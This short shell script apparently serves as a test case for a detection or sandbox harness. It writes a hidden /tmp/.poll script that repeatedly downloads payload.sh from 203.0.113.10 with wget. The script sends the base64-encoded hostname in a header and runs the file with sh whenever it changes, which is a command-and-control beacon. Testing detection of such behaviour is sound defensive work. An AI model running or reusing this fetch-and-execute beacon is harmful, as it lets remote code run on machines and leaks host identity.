#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.poll <<'END'
old=none
for n in 1 2 3 4 5 6 7 8; do
    wget -q -O /tmp/.order --header "If-None-Match: \"$(hostname | base64)\"" --header 'Cookie: lang=en' http://203.0.113.10:8080/payload.sh
    new=$(md5sum </tmp/.order)
    test "$new" = "$old" || sh /tmp/.order
    old=$new; sleep 0.4
done
END
sh /tmp/.poll
test -e /tmp/reached
took_place
